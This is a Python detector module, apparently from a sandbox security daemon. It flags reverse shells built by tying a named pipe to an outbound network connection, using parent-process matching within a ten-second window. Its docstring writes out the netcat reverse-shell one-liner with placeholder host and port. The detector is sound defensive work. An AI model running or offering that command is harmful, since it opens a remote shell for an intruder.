"""A shell tied to a connection by a named pipe: `mkfifo f; sh <f 2>&1 | nc host port >f`."""

from __future__ import annotations

import errno
from collections.abc import Iterator

from daemon.events import Connected, Event, FileKind, FileOpened
from daemon.expectation import Expectation
from daemon.findings import Category, Finding, Rule, Severity, finding
from detectors import Detector
from detectors.addresses import is_internet, is_loopback
from detectors.bounded import PerSandbox, Recent
from detectors.evidence import clip, program

FIFO_SHELL = Rule(
    id="fifo-shell",
    title="A named pipe was tied to a network connection",
    category=Category.PROCESS,
    severity=Severity.HIGH,
    techniques=("T1059.004", "T1095"),
    why="Within seconds a process wrote to a named pipe and it, or one started beside it, connected out. "
    "This is how a reverse shell is built from tools that cannot start a program themselves.",
    remedy="Stop the sandbox. Find the connection's other end, and how the first command came in.",
)

SPAN_NS = 10_000_000_000


class FifoShell(Detector):
    """A pipeline's processes have one parent, so that is what both sides are known by."""

    rules = (FIFO_SHELL,)
    events = (FileOpened, Connected)
    syscalls = frozenset({"connect"})

    def __init__(self) -> None:
        self._writers: PerSandbox[Recent[int]] = PerSandbox(lambda: Recent(SPAN_NS))

    def detect(self, event: Event, sandbox: Expectation) -> Iterator[Finding]:
        if isinstance(event, FileOpened) and event.file.kind == FileKind.FIFO and event.write:
            self._writers.of(event.sandbox).add(event.process.ppid, event.time_ns)
        elif isinstance(event, Connected) and _goes_out(event) and self._has_writer(event):
            yield finding(
                FIFO_SHELL,
                event,
                identifier=f"{clip(event.address)}:{event.port}",
                address=clip(event.address),
                port=event.port,
                program=program(event),
            )

    def forget(self, sandbox: str) -> None:
        self._writers.forget(sandbox)

    def _has_writer(self, event: Connected) -> bool:
        return self._writers.of(event.sandbox).has(event.process.ppid, event.time_ns)


def _goes_out(event: Connected) -> bool:
    stands = event.succeeded or event.result == -errno.EINPROGRESS
    return stands and is_internet(event.family) and not is_loopback(event.address)
